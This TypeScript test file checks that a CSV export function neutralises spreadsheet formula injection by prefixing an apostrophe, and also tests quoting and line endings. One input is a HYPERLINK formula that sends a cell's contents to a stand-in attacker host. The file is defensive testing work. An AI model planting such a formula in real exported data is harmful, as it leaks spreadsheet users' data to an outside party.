import { parse } from 'csv-parse/sync';
import { csvText } from './csv-text.js';

const onlyCell = (text: string): string => (parse(csvText([[text]])) as string[][])[0]![0]!;

test.each([
  '=1+1',
  '+44 20 7946 0000',
  '-2+3',
  '@SUM(A1)',
  '\t=1+1',
  '\rtext',
  '  =1+1',
  '\n@SUM(A1)',
  '\u00a0\u3000-1',
  '\u200b=1',
  '\ufeff=1',
  '＝1＋1',
  '＋1',
  '－1',
  '＠SUM(A1)',
  '=HYPERLINK("http://evil.example/?x="&A1,"more")',
])('the text %j is no formula in a spreadsheet: an apostrophe stands in front', (text) =>
  expect(onlyCell(text)).toBe(`'${text}`),
);

test.each(['A99001', "Women's Health", '5 = 2 + 3', 'a-b', 'a\tb', 'ⅰ', "'=1", 'née, "Ash"\r\nRoad; East'])(
  'the text %j is written as it is',
  (text) => expect(onlyCell(text)).toBe(text),
);

test('numbers stay numbers, below 0 too; nothing is empty; a list has spaces between', () =>
  expect(csvText([[-1, 0, 2_422_000, true, false, null, undefined, '', ['A1', 'A2'], []]])).toBe(
    '-1,0,2422000,true,false,,,,A1 A2,\r\n',
  ));

test('a list that begins like a formula is text too', () => expect(csvText([[['-1', '2']]])).toBe("'-1 2\r\n"));

test('what holds a comma, a quote or a line end is quoted, and lines end with CR LF', () =>
  expect(
    csvText([
      ['a,b', 'c"d', 'e\nf', 'g\rh'],
      ['i', 'j', 'k', 'l'],
    ]),
  ).toBe('"a,b","c""d","e\nf","g\rh"\r\ni,j,k,l\r\n'));
